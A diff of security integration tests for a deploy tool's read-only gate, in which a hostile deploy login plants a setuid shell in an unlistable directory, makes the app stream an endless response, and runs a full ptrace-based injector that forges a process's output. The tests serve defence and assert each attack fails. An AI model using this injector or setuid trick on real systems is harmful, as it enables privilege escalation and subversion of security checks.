@@ -1,8 +1,9 @@
 """The gate and ``fab status`` across the trust boundary, on a real server: what the deploy login writes is read as
 data, never run, never printed raw (docs/security.md, "The gate, status and output").
 
-One container, bootstrapped by the admin login (``appuser``, passwordless sudo), the example app deployed by
-``deployer`` (no sudo), who then turns hostile -- with its own SSH login, no root:
+One server made by hand from plain Debian (``handmade.py``: not the project's images), bootstrapped by the admin
+login (``admin``, passwordless sudo), the example app deployed by ``deployer`` (no sudo), who then turns hostile
+-- with its own SSH login, no root:
 
 - it replaces the live venv's ``python`` and a console script with wrappers, and drops a ``.pth`` into the live
   site-packages, each writing ``id`` to a marker file when run; and leaves a half-built release so that a check
@@ -11,6 +12,11 @@ One container, bootstrapped by the admin login (``appuser``, passwordless sudo),
 - it writes escape codes (screen clear, an OSC 8 hyperlink, a bidi override, a carriage return) and newlines into
   the live release's ``RELEASE.json``. ``fab status`` must print one line per release, none of those characters
   raw, and the values visibly escaped.
+- (round 3) it makes the app answer the gate's GET with an endless body; hides a setuid file in a directory its
+  owner may not list but others may; and attaches (``ptrace``) to the gate's tree reader to write a clean reply
+  before the reader's own, after changing the live release's code. The gate ends, names the directory, and
+  reports the change: nothing the deploy login does makes it wait without a bound or vouch for what it did not
+  see.
 """
 
 from __future__ import annotations
@@ -20,13 +26,15 @@ import os
 import shlex
 import subprocess
 import sys
+import threading
+import time
 from pathlib import Path
 
 import pytest
+from handmade import deployed_by_hand
 
-from deploytests.containers import Fleet
 from deploytests.examples import APPS
-from deploytests.suite.lab import Lab, example_release
+from deploytests.suite.lab import example_release
 
 pytestmark = pytest.mark.integration
 SUITE = Path(__file__).resolve().parents[2] / "deploytests" / "suite"
@@ -35,14 +43,10 @@ MARKERS = "/tmp/dt-ran"  # a wrapper that runs leaves <MARKERS>-<what> with the 
 
 
 @pytest.fixture(scope="module")
-def lab():
-    """One container: bootstrapped by the admin, the example app deployed by ``deployer`` (module-scoped: made
-    before ``pytester`` snapshots ``sys.modules``)."""
-    with Fleet(count=1, name_prefix="trust", progress=lambda msg: None) as fleet:
-        box = Lab(fleet.servers[0], deploy_user="deployer")
-        box.container = fleet.containers[0]
-        box.bootstrap()
-        box.release = box.deploy("yourapplication").release_id
+def lab(tmp_path_factory):
+    """One hand-made server: bootstrapped by the admin, the example app deployed by ``deployer`` (module-scoped:
+    made before ``pytester`` snapshots ``sys.modules``)."""
+    with deployed_by_hand(tmp_path_factory.mktemp("gate-trust-key"), "trust") as box:
         yield box
 
 
@@ -185,7 +189,7 @@ def test_the_gates_root_program_reads_nothing_the_deploy_login_planted_and_bound
         assert raw["uid"] == 0 and touched == [cfg.root], f"root looked into the deploy login's tree: {touched}"
         assert not any("shadow" in p for p in raw["files"] if p.startswith(cfg.root))
         tree = F.read_tree(res)
-        assert tree["user"] == "deployer"  # the reader ran as the deploy user (sudo -u), not root
+        assert tree["user"] == "deployer"  # the reader ran as the deploy user (root became it), not root
         facts = F.gather(lab.server, cfg, deploy_user="deployer")
         assert facts.error == "", facts.error
         why = facts["errors"]["tree"]
@@ -197,3 +201,197 @@ def test_the_gates_root_program_reads_nothing_the_deploy_login_planted_and_bound
     finally:
         as_deployer(lab, f"rm -rf {site}/zz.fifo {site}/zz_shadow.py {site}/zz_huge.bin "
                          f"{shlex.quote(cfg.root + '/releases/' + forged)} {cfg.root}/shared/d")
+
+
+# The app's answer to the gate's GET /: 200 and 1 MiB chunks, forever (appended to application.wsgi).
+ENDLESS = """
+_inner = application
+def application(environ, start_response):
+    if environ.get("PATH_INFO") != "/":
+        return _inner(environ, start_response)
+    start_response("200 OK", [("Content-Type", "text/plain")])
+    def body():
+        while True:
+            yield b"x" * (1 << 20)
+    return body()
+"""
+
+
+def test_an_endless_answer_from_the_app_is_cut_and_the_gate_ends(lab):
+    """The app (the deploy login's code) answered the gate's ``GET /`` with an endless body: the admin's read-only
+    gate never ended, 9.8 GB resident after 3 minutes (``requests`` read the whole body; ``timeout`` bounds each
+    read only). Class: a wait bounded per read, not per answer, on something the less trusted side paces (its
+    trickled bodies and headers and a gzip bomb: tests/unit/test_http_client.py). The answer is cut at 1 MiB."""
+    from deploytests.verify import facts as F
+
+    cfg = lab.config()
+    wsgi = f"{cfg.root}/application.wsgi"
+    as_deployer(lab, f"cp {wsgi} ~/wsgi.orig && printf '%s' {shlex.quote(ENDLESS)} >> {wsgi} && touch {wsgi}")
+    try:
+        facts = F.gather(lab.server, cfg, deploy_user="deployer")
+    finally:
+        as_deployer(lab, f"cat ~/wsgi.orig > {wsgi} && touch {wsgi}")
+    home = facts.responses["/"]
+    assert not isinstance(home, str), home
+    assert home.status_code == 200 and len(home.content) == 1 << 20 and home.cut
+
+
+def test_a_directory_its_owner_cannot_list_is_named_never_skipped(lab):
+    """The deploy login hid a setuid copy of ``sh`` in ``releases/<live>/hidden``, mode ``d--x---r-x``: the app user
+    lists it and runs the file (euid deployer), the tree reader -- the owner -- may not list it, and
+    ``os.walk`` skipped it in silence: test_no_setuid_or_world_writable_in_app_tree passed. Class: a walk that
+    skips what it cannot read. The directory is named, and the gate's first check fails on it."""
+    from deploytests.verify import facts as F
+
+    cfg = lab.config()
+    hidden = f"{cfg.root}/releases/{lab.release}/hidden"
+    as_deployer(lab, f"mkdir {hidden} && cp /bin/sh {hidden}/sh && chmod 4755 {hidden}/sh && chmod 0105 {hidden}")
+    try:
+        ran = lab.container.exec_run(["su", "-s", "/bin/sh", cfg.app_user, "-c", f"{hidden}/sh -p -c 'id -un'"])
+        facts = F.gather(lab.server, cfg, deploy_user="deployer")
+    finally:
+        as_deployer(lab, f"chmod 0755 {hidden} && rm -rf {hidden}")
+    assert ran.output.decode().split() == ["deployer"], ran.output  # what it hid: a way up for the app user
+    assert f"{hidden}: not listed (Permission denied); not looked at" in facts["errors"]["tree"], facts["errors"]
+
+
+# The deploy login's injector: for each program of the gate that starts, attach (ptrace: same uid, and a program
+# sudo -u execs is dumpable), map a page, write the clean reply into it and make the program write(1, ...) it.
+INJECTOR = r"""
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+libc.ptrace.restype = ctypes.c_long
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
+                                                  "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
+def call(pid, saved, gadget, nr, *args):
+    r = Regs.from_buffer_copy(saved)
+    r.rax, r.orig_rax, r.rip = nr, 2**64 - 1, gadget
+    for name, v in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
+        setattr(r, name, v)
+    libc.ptrace(13, pid, None, ctypes.byref(r)); libc.ptrace(9, pid, None, None); os.waitpid(pid, 0x40000000)
+    out = Regs(); libc.ptrace(12, pid, None, ctypes.byref(out))
+    return out.rax
+def forge(pid, line):
+    if libc.ptrace(0x4206, pid, None, None) != 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    libc.ptrace(0x4207, pid, None, None); os.waitpid(pid, 0x40000000)
+    saved = Regs(); libc.ptrace(12, pid, None, ctypes.byref(saved))
+    with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
+        for ln in open("/proc/%d/maps" % pid):
+            f = ln.split()
+            if "r-xp" in f[1]:
+                lo, hi = (int(x, 16) for x in f[0].split("-"))
+                mem.seek(lo); i = mem.read(hi - lo).find(b"\x0f\x05")
+                if i >= 0:
+                    gadget = lo + i; break
+        addr = call(pid, bytes(saved), gadget, 9, 0, len(line) + 4096, 3, 0x22, 2**64 - 1, 0)
+        mem.seek(addr); mem.write(line)
+        n = call(pid, bytes(saved), gadget, 1, 1, addr, len(line))
+    libc.ptrace(13, pid, None, ctypes.byref(saved)); libc.ptrace(17, pid, None, None)
+    return n
+line, done, t0 = open(sys.argv[1], "rb").read(), set(), time.time()
+log = open(os.path.expanduser("~/inject.log"), "a", buffering=1)
+while time.time() - t0 < 50:
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and p not in done]:
+        try:
+            cmd = open("/proc/%s/cmdline" % pid, "rb").read()
+        except OSError:
+            continue
+        if b"deploytests-" not in cmd or not cmd.startswith(b"/usr/bin/python"):
+            continue
+        try:  # the deploy user's (from its start under sudo -u; or once root's program became it) and loaded
+            if os.stat("/proc/" + pid).st_uid != os.getuid():
+                continue
+            ready = "libc" in open("/proc/%s/maps" % pid).read()
+        except PermissionError:
+            ready = True  # the deploy user's, yet closed to it: try all the same, and say what came of it
+        except OSError:
+            continue
+        if not ready:
+            continue
+        done.add(pid)
+        errors = {}
+        for attempt in range(20):
+            try:
+                log.write("pid %s: wrote %s bytes\n" % (pid, forge(int(pid), line)))
+                break
+            except Exception as e:
+                errors[repr(e)] = errors.get(repr(e), 0) + 1
+                time.sleep(0.005)
+        else:
+            log.write("pid %s: %r\n" % (pid, errors))
+    time.sleep(0.001)
+"""
+
+
+def test_the_deploy_login_cannot_attach_to_the_tree_reader_and_forge_its_reply(lab):
+    """The tree reader ran under ``sudo -u deployer``, which execs it: a dumpable process of the deploy user. The
+    deploy login, from its own live SSH session, attached to it with ``ptrace`` and made it write a clean reply
+    before its own: with a backdoor in the live release's code, the admin's read-only gate passed (rc 0; a
+    server made as a real one, root with CAP_SYS_PTRACE, no seccomp). Class: a less trusted party attaching to
+    the more trusted side's program (``pidfd_getfd`` of its stdout is another member). The reader now runs in
+    the root collector's process once it became the deploy user (``collect_root.become``): the uid change left
+    it non-dumpable, the attach is refused, and the reply reports the change."""
+    import io
+
+    from deploytests.verify import facts as F
+
+    cfg = lab.config()
+    rel = f"lib/python{lab.stack.python_version}/site-packages/yourapplication/__init__.py"
+    args = F.probe_args(cfg, "deployer", lab.server.user, lab.stack)
+    clean = F.run_programs(lab.server, args, lab.stack.python)
+    line = next(ln for ln in clean.stdout.splitlines() if ln.startswith(F._reader.MARK))
+    c = lab.login()
+    try:
+        c.put(io.BytesIO((line + "\n").encode()), "clean.line")
+        c.put(io.BytesIO(INJECTOR.encode()), "inject.py")
+    finally:
+        c.close()
+    def inject():
+        c = lab.login()
+        try:
+            c.run("rm -f ~/inject.log; python3 ~/inject.py ~/clean.line", hide=True, warn=True, in_stream=False)
+        finally:
+            c.close()
+
+    session = threading.Thread(target=inject, daemon=True)
+    session.start()  # inside the deploy login's own live SSH session: the gate accepts its processes
+    as_deployer(lab, f"echo '# the backdoor' >> {cfg.root}/releases/{lab.release}/venv/{rel}")
+    try:
+        time.sleep(1)
+        res = F.run_programs(lab.server, args, lab.stack.python)
+        time.sleep(5)  # the injector says what it got
+    finally:
+        as_deployer(lab, "pkill -u deployer -f 'python3 [/].*inject[.]py'; rm -f ~/clean.line ~/inject.py; true")
+        as_deployer(lab, f"sed -i '$d' {cfg.root}/releases/{lab.release}/venv/{rel}")
+        session.join(60)
+    log = lab.container.exec_run(["cat", "/home/deployer/inject.log"]).output.decode()
+    assert "wrote" not in log and "PermissionError" in log, log
+    assert res.stdout.count(F._reader.MARK) == 1
+    found, before = (F.read_tree(r)["tree"]["live"]["hashes"][rel] for r in (res, clean))
+    assert found != before  # the reader's own reply: the changed file
+
+
+def test_a_name_that_is_not_utf8_reaches_the_terminal_escaped(pytester, lab):
+    """The deploy login names a file of the live venv with bytes that are not UTF-8 (``0x9b``: an 8-bit CSI where a
+    terminal takes C1 controls). The tree reader's reply carries it as a lone surrogate, which the sanitiser let
+    through (it is not a character it knows); printed, it went out as the raw byte, and the gate's output was not
+    UTF-8. Class: text the sanitiser passes because it is no character: a lone surrogate is escaped like a
+    control (``\\udc9b``)."""
+    import io
+
+    cfg = lab.config()
+    site = f"{cfg.root}/releases/{lab.release}/venv/lib/python{lab.stack.python_version}/site-packages"
+    c = lab.login()
+    try:
+        c.put(io.BytesIO(b"import sys\nopen(sys.argv[1].encode() + b'/n\\x9b31mRED.py', 'w').write('x')\n"), "mk.py")
+    finally:
+        c.close()
+    as_deployer(lab, f"python3 ~/mk.py {site}")
+    try:
+        out = read_only_gate(pytester, lab, "--no-deploy").stdout.str()
+    finally:
+        as_deployer(lab, f"rm -f {site}/n*RED.py ~/mk.py")
+    assert "site-packages/n\\udc9b31mRED.py" in out, out[-3000:]
